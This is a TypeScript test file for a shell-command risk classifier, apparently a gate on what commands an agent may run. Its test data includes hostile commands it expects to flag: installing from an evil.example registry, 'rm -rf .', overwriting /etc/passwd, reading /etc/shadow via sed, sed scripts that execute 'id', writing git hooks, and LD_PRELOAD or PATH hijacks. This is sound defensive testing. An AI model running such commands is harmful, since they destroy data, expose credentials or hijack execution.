import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { classify } from "../../src/classify/classify.ts";
import { decide } from "../../src/decide/decide.ts";
import { fixtureContext } from "../support/fixture-context.ts";
import { fixtureCircumstances, fixtureProfile } from "../support/fixture-profile.ts";
import { risk, rows } from "../support/fixture-rows.ts";
import { type VerdictRow, verdictRows } from "../support/fixture-verdicts.ts";

const lines = (text: string) =>
  text
    .trim()
    .split("\n")
    .map((line) => line.trim());
const all = (jail: "allow" | "ask", none: "allow" | "ask", text: string): VerdictRow[] =>
  lines(text).map((command) => [command, jail, none]);
const sentences = (command: string) => classify(command, fixtureContext()).effects.map(({ sentence }) => sentence);
const hosts = (command: string) =>
  classify(command, fixtureContext()).effects.flatMap(({ ruleId, target = "" }) =>
    ruleId === "operand.host" ? [target] : [],
  );

describe("an option that the table knows is no abbreviation", () => {
  verdictRows(all("allow", "ask", "npm list --all\nnpm ls --all\npip freeze --all\npip list --all"));
  rows("one that it doesn't know may be", "dangerous", [
    "pip install --trusted x y",
    "pip install --trust x y",
    "git push --forc origin main",
    "npm install --registry=http://evil.example x",
  ]);
  rows("a tool that takes no abbreviation reads only whole ones", "needs-review", ["gh pr list --adm"]);
});

describe("a workspace anywhere", () => {
  for (const root of ["/srv/app", "/opt/app", "/var/www/site", "/data/w", "/usr/src/app", "/root/w", "/var/lib/ci/w"]) {
    const at = { cwd: root, roots: [root] };
    it(`${root}: writing and deleting its files is no danger`, () => {
      for (const command of [
        "echo hi > b.txt",
        "rm b.txt",
        "mv a b",
        "cp a b",
        "touch b",
        "sed -i s/a/b/ c",
        "rmdir d",
      ])
        assert.equal(risk(command, at), "needs-review", command);
    });
    it(`${root}: the rest is as dangerous as elsewhere`, () => {
      const grave = ["rm -rf .", "echo x > .envrc", "rm /etc/passwd", "echo x > /etc/passwd", "echo x > /var/log/a"];
      for (const command of [
        ...grave,
        `echo x > ${root}/../../../../etc/passwd`,
        "echo x > /srv/other",
        "rm /opt/other",
      ])
        assert.equal(risk(command, at), "dangerous", command);
    });
  }
  it("a link out of it is judged by where it leads", () => {
    const realpath = (path: string) => (path === "/srv/app/link" ? "/var/log/syslog" : path);
    assert.equal(risk("echo x > link", { cwd: "/srv/app", roots: ["/srv/app"], realpath }), "dangerous");
  });
});

describe("a login shell and env are judged by what they run", () => {
  verdictRows([
    ...all("allow", "allow", "bash -lc ls\nbash -l -c ls\nbash --login -c ls\nsh -lc ls\nbash -elc ls\nenv FOO=bar ls"),
    ...all("allow", "allow", "bash -lc 'cat a | wc -l'\nenv FOO=bar BAZ='x y' cat a\nenv LC_ALL=C FOO=1 sort a"),
    ...all("allow", "ask", "bash -lc 'git status'"),
    ...all(
      "ask",
      "ask",
      `bash -lc 'rm a'
      bash -lc "$x"
      bash -lc
      bash -l
      bash -l < f
      bash -l x.sh
      bash -ilc ls
      zsh -lc ls
      HOME=. bash -lc ls
      env HOME=. bash -lc ls
      BASH_ENV=x bash -lc ls
      env FOO=$x ls
      env FOO=* ls
      env FOO=bar git status
      env FOO=bar sh -c ls
      env FOO=bar ./ls
      env FOO=bar rm a
      env LD_PRELOAD=x ls
      env PATH=. ls
      env FOO=bar PATH=. ls
      env -i FOO=bar ls
      env FOO=bar env GIT_DIR=x ls`,
    ),
  ]);
  it("a profile in the workspace is read only where a jail holds it", () => {
    const home = fixtureContext({ cwd: "/home/me", roots: ["/home/me"] });
    const [first] = classify("bash -lc ls", home).effects;
    assert.deepEqual([first?.ruleId, first?.reliesOnJail], ["shell.login", true]);
  });
});

describe("linters that load no code of the project", () => {
  verdictRows([
    ...all(
      "allow",
      "ask",
      "ruff check\nruff check .\nruff format --check\nblack --check .\nisort --check .\nisort --check-only .",
    ),
    ...all(
      "ask",
      "ask",
      "ruff check --fix\nruff format\nblack .\nisort .\nblack --check --config x .\nflake8 .\npylint src",
    ),
  ]);
});

describe("secrets and contents of services", () => {
  verdictRows(
    all(
      "ask",
      "ask",
      `kubectl get secrets
      kubectl get secrets -o name
      kubectl get secret/x
      kubectl get Secrets.v1
      kubectl get SECRET x
      kubectl get all,secrets
      kubectl get pods,Secret
      oc get secrets
      gsutil cat gs://a/b
      gsutil -m cat gs://a/b
      gcloud storage cat gs://a/b
      rclone cat remote:a`,
    ),
  );
  verdictRows(
    all("allow", "allow", "kubectl get pods\nkubectl get sealedsecrets\ngsutil ls gs://a\ngcloud storage ls"),
  );
});

describe("sed -i", () => {
  const edits: readonly [command: string, ...sentences: string[]][] = [
    ["sed -i s/a/b/ a.txt", "Edits a.txt in place"],
    ["sed -ni p a.txt", "Edits a.txt in place"],
    ["sed -n -i p a.txt", "Edits a.txt in place"],
    ["sed s/a/b/ a.txt -i", "Edits a.txt in place"],
    ["sed --in-place s/a/b/ a.txt", "Edits a.txt in place"],
    ["sed -i '' s/a/b/ a.txt", "Edits a.txt in place"],
    ["sed -i -- s/a/b/ a.txt", "Edits a.txt in place"],
    ["sed -i -e s/a/b/ a.txt b.txt", "Edits a.txt in place", "Edits b.txt in place"],
    ["sed -i.bak s/a/b/ a.txt", "Edits a.txt in place", "Writes: /home/me/project/a.txt.bak"],
    ["sed --in-place=.bak p a.txt", "Edits a.txt in place", "Writes: /home/me/project/a.txt.bak"],
    ["sed -in p a.txt", "Edits a.txt in place", "Writes: /home/me/project/a.txtn"],
    ["sed -i s/a/b/ ../x", "Edits /home/me/x in place, outside the workspace"],
  ];
  for (const [command, ...expected] of edits) it(command, () => assert.deepEqual(sentences(command), expected));

  const granted = (command: string) => {
    const allowed = { entries: [], grants: [{ root: "/home/me/project" }] };
    return decide(classify(command, fixtureContext()), fixtureProfile(), fixtureCircumstances({ allowed })).verdict;
  };
  it("is covered by an effect grant if it edits files of the workspace", () => {
    for (const command of ["sed -i s/a/b/ a.txt", "sed -i.bak -e p a b"])
      assert.equal(granted(command), "allow", command);
    for (const command of ["sed -i s/a/b/ ../x", "sed -i s/a/b/ .env", "sed -i 'w ../x' a", "sed -i.py p $x"])
      assert.equal(granted(command), "ask", command);
  });
  rows("is dangerous by what it edits or its script does", "dangerous", [
    "sed -i s/a/b/ .envrc",
    "sed -i s/a/b/ /etc/passwd",
    "sed -i p a.txt .git/hooks/pre-commit",
    "sed -i 'w /etc/passwd' a.txt",
    "sed -i '1e id' a.txt",
    "sed -i s/a/id/e a.txt",
    "sed -i.envrc p ./",
    "sed -i r/etc/shadow a.txt",
  ]);
  rows("asks where it can't be read", "needs-review", [
    "sed -i",
    "sed -i s/a/b/",
    "sed -i -f s.sed a.txt",
    'sed -i "$x" a.txt',
    "sed -i/x p a.txt",
    "sed -e -i a.txt",
    "sed -i s/a/b/ $x",
  ]);
});

describe("git's refspecs name no machine", () => {
  const expected: readonly [command: string, ...hosts: string[]][] = [
    ["git push origin HEAD:main"],
    ["git push -u origin HEAD:main"],
    ["git push -u -f origin a:b"],
    ["git push origin :branch"],
    ["git push origin +a:b"],
    ["git push origin refs/tags/v1:refs/tags/v1 v2:v2"],
    ["git push -- origin HEAD:main"],
    ["git push origin -- HEAD:main"],
    ["git -C sub push origin HEAD:main"],
    ["git fetch origin main:main"],
    ["git pull --rebase origin main:main"],
    ["git push host:path main", "host"],
    ["git push host:path HEAD:main", "host"],
    ["git push git@github.com:o/r.git HEAD:main", "github.com"],
    ["git push origin me@host:path", "host"],
    ["git push https://x.io/r.git a:b", "x.io"],
    ["git clone host:path dir", "host"],
    ["git fetch host:path a:b", "host"],
    ["git fetch --multiple a:b c:d", "a", "c"],
    ["git fetch --mult a:b c:d", "a", "c"],
    ["git remote add x host:path", "host"],
    ["git remote set-url origin host:path", "host"],
    ["git ls-remote host:path", "host"],
    ["git push -o x host:path a:b", "host"],
    ["git push --push-option host:path", "host"],
    ["git push --repo host:path main", "host"],
    ["git -C push push host:path", "host"],
    ["git push $opts host:path", "host"],
    ["git push HEAD:main", "HEAD"],
  ];
  for (const [command, ...found] of expected) it(command, () => assert.deepEqual(hosts(command), found));
});
